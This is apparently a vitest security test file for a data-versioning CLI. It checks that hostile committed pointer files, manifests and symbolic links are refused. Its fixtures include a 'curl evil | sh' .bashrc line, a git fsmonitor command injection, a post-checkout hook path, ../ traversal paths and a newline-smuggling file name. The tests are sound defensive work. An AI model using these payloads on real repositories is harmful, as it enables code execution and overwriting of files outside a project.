/**
 * Committed files are untrusted: hostile pointer files and directory manifests, and
 * committed symbolic links, must not let status, checkout or pull touch anything
 * outside the tracked paths (issue 10, items 1, 2 and 17). Each test is the attack.
 */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { git, makeRepo, mlo, parseJson, tempDir, writeTree } from '../helpers/cli.js';
import { sha256 } from '../../src/data/hash.js';
import { encodeManifest } from '../../src/data/manifest.js';

/** A pointer file's text, as an attacker would write it. */
function pointer(fields: Record<string, string | number>): string {
  return Object.entries(fields)
    .map(([k, v]) => `${k}: ${typeof v === 'string' ? JSON.stringify(v) : v}`)
    .join('\n');
}

/** Put `content` in the repo's cache (through a real `mlo add`), return its hash. */
function cached(dir: string, name: string, content: string | Buffer): string {
  writeTree(dir, { [name]: content });
  expect(mlo(['add', name], { cwd: dir }).code).toBe(0);
  rmSync(join(dir, `${name}.mlo`));
  return sha256(content);
}

/** Store raw bytes as a loose object, as a hostile remote could provide them. */
function plantObject(dir: string, bytes: Buffer): string {
  const h = sha256(bytes);
  mkdirSync(join(dir, '.mlo/cache', h.slice(0, 2)), { recursive: true });
  writeFileSync(join(dir, '.mlo/cache', h.slice(0, 2), h.slice(2)), bytes);
  return h;
}

function committedRepo(): string {
  const dir = makeRepo();
  writeTree(dir, { 'README.md': 'hi\n', 'data/keep.csv': 'precious\n' });
  mlo(['add', 'data/keep.csv'], { cwd: dir });
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'init');
  return dir;
}

describe('a pointer file describes only its own name (item 1)', () => {
  it('path: . with checkout --force is refused; the repository survives', () => {
    const dir = committedRepo();
    const h = cached(dir, 'payload.bin', 'xxxxxx');
    writeFileSync(join(dir, 'evil.mlo'), pointer({ path: '.', hash: h, size: 6 }));
    const r = mlo(['checkout', '--force'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^error: refusing a pointer file: evil\.mlo: it says path: "\."/m);
    expect(lstatSync(join(dir, '.git')).isDirectory()).toBe(true);
    expect(lstatSync(join(dir, '.mlo')).isDirectory()).toBe(true);
    expect(readFileSync(join(dir, 'data/keep.csv'), 'utf8')).toBe('precious\n');
    expect(git(dir, 'log', '--oneline')).toMatch(/init/);
  });

  it('path: .git is refused; the git history stays', () => {
    const dir = committedRepo();
    const h = cached(dir, 'payload.bin', 'xxxxxx');
    writeFileSync(join(dir, 'evil.mlo'), pointer({ path: '.git', hash: h, size: 6 }));
    expect(mlo(['checkout', '--force'], { cwd: dir }).code).toBe(2);
    // and the same through a pointer whose own name is .git (or .GIT: the same on macOS)
    rmSync(join(dir, 'evil.mlo'));
    writeFileSync(join(dir, '.GIT.mlo'), pointer({ path: '.GIT', hash: h, size: 6 }));
    const r = mlo(['checkout', '--force'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/\.GIT\.mlo: the path it describes is inside \.GIT\//);
    expect(lstatSync(join(dir, '.git')).isDirectory()).toBe(true);
    expect(git(dir, 'log', '--oneline')).toMatch(/init/);
  });

  it('path: .git/config (an fsmonitor command) never reaches git', () => {
    const dir = committedRepo();
    mlo(['remote', 'add', 'origin', join(tempDir(), 'store')], { cwd: dir });
    const config = `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch ${join(dir, 'pwned')}; false"\n`;
    const h = cached(dir, 'payload.cfg', config);
    writeFileSync(
      join(dir, 'evil.mlo'),
      pointer({ path: '.git/config', hash: h, size: config.length }),
    );
    writeFileSync(
      join(dir, 'hook.mlo'),
      pointer({ path: '.git/hooks/post-checkout', hash: h, size: config.length }),
    );
    for (const cmd of [['checkout', '--force'], ['status'], ['pull']]) {
      const r = mlo(cmd, { cwd: dir });
      expect(r.code, cmd.join(' ')).toBe(2);
      expect(r.stderr).toMatch(/refusing 2 pointer files: evil\.mlo: .*; hook\.mlo: /);
    }
    git(dir, 'status');
    expect(existsSync(join(dir, 'pwned'))).toBe(false);
    expect(readFileSync(join(dir, '.git/config'), 'utf8')).not.toMatch(/fsmonitor/);
    expect(existsSync(join(dir, '.git/hooks/post-checkout'))).toBe(false);
  });

  it('path: .mlo/config.yaml is refused and mlo keeps working', () => {
    const dir = committedRepo();
    const h = cached(dir, 'payload.yaml', 'not: [valid');
    const before = readFileSync(join(dir, '.mlo/config.yaml'), 'utf8');
    writeFileSync(join(dir, 'evil.mlo'), pointer({ path: '.mlo/config.yaml', hash: h, size: 11 }));
    expect(mlo(['checkout', '--force'], { cwd: dir }).code).toBe(2);
    expect(readFileSync(join(dir, '.mlo/config.yaml'), 'utf8')).toBe(before);
    rmSync(join(dir, 'evil.mlo'));
    expect(mlo(['status', '--exit-code'], { cwd: dir }).code).toBe(0);
  });

  it('pointers named "..mlo" and "...mlo" (the folder itself, its parent) are refused', () => {
    const dir = committedRepo();
    const h = cached(dir, 'payload.bin', 'xxxxxx');
    mkdirSync(join(dir, 'sub'));
    writeFileSync(join(dir, 'sub', '..mlo'), pointer({ hash: h, size: 6 }));
    writeFileSync(join(dir, 'sub', '...mlo'), pointer({ hash: h, size: 6 }));
    const r = mlo(['checkout', '--force'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/sub\/\.\.mlo: its name does not name a file or folder/);
    expect(r.stderr).toMatch(/sub\/\.\.\.mlo: its name does not name a file or folder/);
    expect(readFileSync(join(dir, 'data/keep.csv'), 'utf8')).toBe('precious\n');
  });

  it('a pointer path escaping upwards is refused before anything is written', () => {
    const dir = committedRepo();
    const outside = tempDir();
    const h = cached(dir, 'payload.bin', 'xxxxxx');
    writeFileSync(
      join(dir, 'evil.mlo'),
      pointer({ path: `../${outside.split('/').pop()}/x`, hash: h, size: 6 }),
    );
    expect(mlo(['checkout'], { cwd: dir }).code).toBe(2);
    expect(readdirSync(outside)).toEqual([]);
  });

  it('pointers written by mlo add keep their path field, which older versions need', () => {
    const dir = makeRepo();
    writeTree(dir, { 'data/a.csv': 'a\n' });
    mlo(['add', 'data/a.csv'], { cwd: dir });
    expect(readFileSync(join(dir, 'data/a.csv.mlo'), 'utf8')).toMatch(/^path: a\.csv$/m);
    // and a pointer without it describes its own name
    writeFileSync(join(dir, 'data/a.csv.mlo'), pointer({ hash: sha256('a\n'), size: 2 }));
    rmSync(join(dir, 'data/a.csv'));
    expect(mlo(['checkout'], { cwd: dir }).code).toBe(0);
    expect(readFileSync(join(dir, 'data/a.csv'), 'utf8')).toBe('a\n');
  });
});

describe('checkout and pull never write through a committed link (item 2)', () => {
  it('a symlink linkdir -> outside plus a pointer for linkdir/x writes nothing outside', () => {
    const dir = committedRepo();
    const outside = tempDir();
    const h = cached(dir, 'payload.bin', 'xxxxxx');
    symlinkSync(outside, join(dir, 'linkdir'));
    writeFileSync(join(dir, 'x.mlo'), pointer({ path: 'linkdir/x', hash: h, size: 6 }));
    expect(mlo(['checkout'], { cwd: dir }).code).toBe(2);
    expect(readdirSync(outside)).toEqual([]);
  });

  it('a link inside a tracked directory is not followed when its files are restored', () => {
    const dir = committedRepo();
    const outside = tempDir();
    writeTree(dir, { 'd/sub/x.txt': 'inside\n', 'd/y.txt': 'y\n' });
    expect(mlo(['add', 'd'], { cwd: dir }).code).toBe(0);
    rmSync(join(dir, 'd/sub'), { recursive: true });
    symlinkSync(outside, join(dir, 'd/sub'));
    const r = mlo(['checkout'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/refusing to write through d\/sub: it is a symbolic link/);
    expect(readdirSync(outside)).toEqual([]);
  });

  it('end to end: git pull && mlo pull of an attacker commit writes nothing outside', () => {
    const remote = join(tempDir(), 'store');
    const victimHome = tempDir();
    const attacker = makeRepo();
    writeTree(attacker, { 'cfg/home/.bashrc': 'curl evil | sh\n' });
    mlo(['remote', 'add', 'origin', remote], { cwd: attacker });
    expect(mlo(['add', 'cfg'], { cwd: attacker }).code).toBe(0);
    expect(mlo(['push'], { cwd: attacker }).code).toBe(0);
    rmSync(join(attacker, 'cfg/home'), { recursive: true });
    symlinkSync(victimHome, join(attacker, 'cfg/home'));
    git(attacker, 'add', '-A');
    git(attacker, 'add', '-f', 'cfg/home');
    git(attacker, 'commit', '-qm', 'innocent looking');
    const victim = join(tempDir(), 'victim');
    git(tempDir(), 'clone', '-q', attacker, victim);
    expect(lstatSync(join(victim, 'cfg/home')).isSymbolicLink()).toBe(true);
    const r = mlo(['pull'], { cwd: victim });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/cfg\/home: it is a symbolic link/);
    expect(readdirSync(victimHome)).toEqual([]);
  });

  it('a directory manifest naming ../ paths (from a hostile remote) is refused', () => {
    const dir = committedRepo();
    const outsideName = `escape-${process.pid}-${Date.now()}`;
    const body = Buffer.from('pwned\n');
    const fileHash = plantObject(dir, body);
    const m = encodeManifest([{ path: `../../${outsideName}`, hash: fileHash, size: body.length }]);
    plantObject(dir, m.bytes);
    writeFileSync(
      join(dir, 'd.mlo'),
      pointer({ path: 'd', type: 'dir', hash: m.hash, size: body.length, files: 1 }),
    );
    const r = mlo(['checkout'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /refusing to write d\/\.\.\/\.\.\/escape-.*: it has a "\.\." component/,
    );
    expect(existsSync(join(dir, '..', outsideName))).toBe(false);
    expect(existsSync(join(dir, outsideName))).toBe(false);
  });
});

describe('pointer-file edge cases (item 17)', () => {
  it('two pointer files claiming the same path are refused, naming the impostor', () => {
    const dir = committedRepo();
    const h1 = cached(dir, 'one.bin', 'one');
    const h2 = cached(dir, 'two.bin', 'two');
    writeFileSync(join(dir, 'x.mlo'), pointer({ path: 'x', hash: h1, size: 3 }));
    writeFileSync(join(dir, 'other.mlo'), pointer({ path: 'x', hash: h2, size: 3 }));
    for (let i = 0; i < 2; i++) {
      const r = mlo(['checkout', '--force'], { cwd: dir });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/other\.mlo: it says path: "x", but a pointer file describes only/);
    }
    expect(existsSync(join(dir, 'x'))).toBe(false);
  });

  it('a pointer whose size disagrees with its object: checkout and pull refuse, fsck reports', () => {
    const dir = committedRepo();
    const remote = join(tempDir(), 'store');
    writeTree(dir, { 'sized.csv': 'twelve bytes' });
    mlo(['add', 'sized.csv'], { cwd: dir });
    mlo(['remote', 'add', 'origin', remote], { cwd: dir });
    expect(mlo(['push'], { cwd: dir }).code).toBe(0);
    writeFileSync(
      join(dir, 'sized.csv.mlo'),
      pointer({ path: 'sized.csv', hash: sha256('twelve bytes'), size: 5 }),
    );
    rmSync(join(dir, 'sized.csv'));
    const co = mlo(['checkout'], { cwd: dir });
    expect(co.code).toBe(2);
    expect(co.stderr).toMatch(/sized\.csv\.mlo: says 5 bytes, but its object \w+ holds 12/);
    expect(existsSync(join(dir, 'sized.csv'))).toBe(false);
    const fsck = parseJson<{ problems: { problem: string; where: string }[] }>(
      mlo(['fsck', '--json'], { cwd: dir }),
    );
    expect(fsck.problems).toEqual([
      expect.objectContaining({ problem: 'size', where: 'sized.csv' }),
    ]);
    // a fresh clone pulls the object and refuses the pointer before checking it out
    git(dir, 'add', '-A');
    git(dir, 'commit', '-qm', 'lying pointer');
    const clone = join(tempDir(), 'clone');
    git(tempDir(), 'clone', '-q', dir, clone);
    const pull = mlo(['pull'], { cwd: clone });
    expect(pull.code).toBe(2);
    expect(pull.stderr).toMatch(/sized\.csv\.mlo: says 5 bytes/);
    expect(existsSync(join(clone, 'sized.csv'))).toBe(false);
  });

  it('a file name with a newline is refused by add; .gitignore is untouched', () => {
    const dir = makeRepo();
    writeTree(dir, { 'data/ok.csv': 'ok\n' });
    mlo(['add', 'data/ok.csv'], { cwd: dir });
    const before = readFileSync(join(dir, 'data/.gitignore'), 'utf8');
    writeFileSync(join(dir, 'data', 'evil\n!ok.csv'), 'x\n');
    const r = mlo(['add', 'data/evil\n!ok.csv'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /^error: "data\/evil\\n!ok\.csv": cannot be tracked: it contains a control character/m,
    );
    expect(readFileSync(join(dir, 'data/.gitignore'), 'utf8')).toBe(before);
    expect(existsSync(join(dir, 'data', 'evil\n!ok.csv.mlo'))).toBe(false);
  });

  it('a committed pointer file whose name holds a newline is refused too', () => {
    const dir = committedRepo();
    const h = cached(dir, 'payload.bin', 'xxxxxx');
    writeFileSync(join(dir, 'a\nb.mlo'), pointer({ path: 'a\nb', hash: h, size: 6 }));
    const r = mlo(['status'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/"a\\nb\.mlo": the path it describes contains a control character/);
  });

  it('a pointer file that is a link or is huge is refused', () => {
    const dir = committedRepo();
    symlinkSync('/dev/zero', join(dir, 'zero.mlo'));
    const r = mlo(['status'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/zero\.mlo: not a regular file/);
    rmSync(join(dir, 'zero.mlo'));
    writeFileSync(join(dir, 'big.mlo'), `# ${'x'.repeat(100_000)}\n`);
    expect(mlo(['status'], { cwd: dir }).stderr).toMatch(/big\.mlo: \d+ bytes is too big/);
  });
});

describe('stage outputs restored from the run cache (item 2)', () => {
  it('a committed link above a stage output is not followed by repro restoring it', () => {
    const dir = makeRepo();
    const outside = tempDir();
    writeTree(dir, {
      'mlo.yaml': [
        'stages:',
        '  make:',
        `    cmd: node -e "require('fs').writeFileSync('linkdir/out.txt', 'stage output')"`,
        '    outs: [linkdir/out.txt]',
        '',
      ].join('\n'),
      'linkdir/.keep': '',
    });
    const first = mlo(['repro'], { cwd: dir });
    expect(first.code, first.stderr).toBe(0);
    // the output goes missing and linkdir becomes a link out of the repository
    rmSync(join(dir, 'linkdir'), { recursive: true });
    symlinkSync(outside, join(dir, 'linkdir'));
    const r = mlo(['repro'], { cwd: dir });
    expect(r.code).toBe(1); // the stage fails, with the reason
    // the stage's output check refuses the link before repro restores or runs anything
    expect(r.stdout + r.stderr).toMatch(
      /output linkdir\/out\.txt: linkdir is a symbolic link to .*, outside the repository/,
    );
    expect(readdirSync(outside)).toEqual([]);
  });
});

describe('committed links under .mlo/ (state-links.ts)', () => {
  /**
   * An attacker's repository committing `link` (under .mlo/) as a symbolic link to a
   * folder outside, cloned by the victim: git checks the link out as it is.
   */
  function clonedWithLink(link: string, to: string): string {
    const src = makeRepo();
    writeTree(src, { 'README.md': 'hi\n' });
    rmSync(join(src, link), { recursive: true, force: true });
    symlinkSync(to, join(src, link));
    git(src, 'add', '-A');
    git(src, 'add', '-f', link);
    git(src, 'commit', '-qm', 'hostile');
    const victim = join(tempDir(), 'victim');
    git(src, 'clone', '-q', src, victim);
    expect(lstatSync(join(victim, link)).isSymbolicLink()).toBe(true);
    writeTree(victim, { 'f.txt': 'hello\n' });
    return victim;
  }

  for (const link of ['.mlo/cache', '.mlo/tmp', '.mlo/mlo.db', '.mlo/cache/packs']) {
    it(`${link} as a link: add, status, gc and init refuse it and write nothing outside`, () => {
      const outside = tempDir();
      const target = link.endsWith('.db') ? join(outside, 'mlo.db') : outside;
      const victim = clonedWithLink(link, target);
      for (const args of [['add', 'f.txt'], ['status'], ['gc'], ['init']]) {
        const r = mlo(args, { cwd: victim });
        expect(r.code, `${args[0]}: ${r.stderr}`).toBe(2);
        expect(r.stderr.split('\n')[0]).toBe(
          `error: ${link} is a symbolic link (to ${target}): mlo keeps its state in .mlo/ and follows no link there (a committed link could lead outside the repository)`,
        );
      }
      expect(readdirSync(outside)).toEqual([]);
      // removing the link, as the hint says, is all it takes
      rmSync(join(victim, link));
      const init = mlo(['init'], { cwd: victim });
      expect(init.code, init.stderr).toBe(0);
      const add = mlo(['add', 'f.txt'], { cwd: victim });
      expect(add.code, add.stderr).toBe(0);
      expect(readdirSync(outside)).toEqual([]);
    });
  }

  it('.mlo/config.yaml as a link to /dev/zero is refused at once, not read until memory runs out', () => {
    const victim = clonedWithLink('.mlo/config.yaml', '/dev/zero');
    for (const args of [['status'], ['init']]) {
      // (before the check: 2.4 GB read in 8 s and still reading; the timeout fails the test)
      const r = mlo(args, { cwd: victim, timeoutMs: 30_000 });
      expect(r.code, `${args[0]}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toMatch(/^error: \.mlo\/config\.yaml is a symbolic link \(to \/dev\/zero\)/);
    }
  });

  it('.mlo itself as a link: refused before anything is made through it', () => {
    const outside = tempDir();
    const src = makeRepo({ init: false });
    writeTree(src, { 'README.md': 'hi\n' });
    symlinkSync(outside, join(src, '.mlo'));
    git(src, 'add', '-A');
    git(src, 'commit', '-qm', 'hostile');
    const victim = join(tempDir(), 'victim');
    git(src, 'clone', '-q', src, victim);
    writeTree(victim, { 'f.txt': 'hello\n' });
    for (const args of [['init'], ['add', 'f.txt'], ['status']]) {
      const r = mlo(args, { cwd: victim });
      expect(r.code, `${args[0]}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toMatch(/^error: \.mlo is a symbolic link \(to .*\): mlo keeps its state/);
    }
    expect(readdirSync(outside)).toEqual([]);
  });

  it('a fan-out folder as a link: gc deletes nothing through it, add writes nothing through it', () => {
    const outside = tempDir();
    const content = 'hello\n';
    const h = sha256(content);
    // what gc would take for an unreferenced object of this cache: another
    // project's object, say, that the link leads to
    const theirs = `${h.slice(2, -4)}beef`;
    writeFileSync(join(outside, theirs), 'not yours');
    const victim = clonedWithLink(`.mlo/cache/${h.slice(0, 2)}`, outside);
    expect(mlo(['init'], { cwd: victim }).code).toBe(0);
    const gc = mlo(['gc'], { cwd: victim });
    expect(gc.code, gc.stderr).toBe(0);
    expect(readdirSync(outside)).toEqual([theirs]);
    const add = mlo(['add', 'f.txt'], { cwd: victim });
    expect(add.code).toBe(2);
    expect(add.stderr.split('\n')[0]).toBe(
      `error: .mlo/cache/${h.slice(0, 2)} is a symbolic link (to ${outside}): mlo keeps its state in .mlo/ and follows no link there (a committed link could lead outside the repository)`,
    );
    expect(readdirSync(outside)).toEqual([theirs]);
    expect(existsSync(join(victim, 'f.txt.mlo'))).toBe(false);
  });
});
